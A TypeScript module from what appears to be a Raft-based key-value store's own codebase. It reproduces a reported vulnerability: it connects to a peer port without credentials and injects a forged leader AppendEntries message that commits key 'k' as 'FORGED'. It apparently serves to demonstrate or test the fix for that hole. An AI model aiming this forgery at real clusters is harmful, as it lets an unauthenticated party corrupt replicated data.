/**
 * The attack of issue 13: a process that can reach a peer port, holding no credential, sends a
 * forged AppendEntries claiming to be the leader at term T+1 that would set key `k` to `FORGED`.
 *
 * @module
 */
import { EntryType, message, MessageType } from "../raft/types.ts";
import { encodeCommand, putCommand } from "../storage/command.ts";
import { encodeHello, encodeMessageFrame } from "../transport/frame.ts";
import { parseAddress } from "../transport/options.ts";

const enc = new TextEncoder();

/** Sends the forged AppendEntries to `peer` as node `leader`; returns when written. */
export async function forge(
  peer: string,
  leader: number,
  to: number,
  st: Record<string, unknown>,
): Promise<void> {
  const term = Number(st.term) + 1;
  const index = Number(st.commitIndex);
  const { hostname, port } = parseAddress(peer);
  const c = await Deno.connect({ hostname, port });
  try {
    const app = message({
      type: MessageType.App,
      from: leader,
      to,
      term,
      logTerm: Number(st.term),
      index,
      commit: index + 1,
      entries: [{
        term,
        index: index + 1,
        type: EntryType.Normal,
        data: encodeCommand(putCommand(enc.encode("k"), enc.encode("FORGED"))),
      }],
    });
    await c.write(encodeHello({ from: leader, to }));
    await c.write(encodeMessageFrame(app));
    await new Promise((r) => setTimeout(r, 300));
  } catch {
    /* the node may close at once */
  } finally {
    try {
      c.close();
    } catch { /* closed */ }
  }
}
